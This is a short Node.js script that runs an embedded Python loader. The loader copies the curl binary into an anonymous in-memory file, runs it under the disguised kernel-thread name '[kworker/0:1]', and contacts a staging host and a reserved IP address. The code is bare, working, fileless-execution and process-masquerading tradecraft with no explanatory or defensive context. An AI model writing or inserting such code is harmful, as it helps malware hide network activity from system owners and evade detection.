const { spawnSync } = require("child_process");
const loader = `
import os
fd = os.memfd_create("kworker", 0)
os.write(fd, open("/usr/bin/curl", "rb").read())
os.execve("/proc/self/fd/%d" % fd, ["[kworker/0:1]", "-s", "-m", "3", "http://stage.memory.example/", "http://240.0.0.19/"], dict(os.environ))
`.replace(/^ /gm, "");
spawnSync("python3", ["-"], { input: loader, timeout: 10000 });
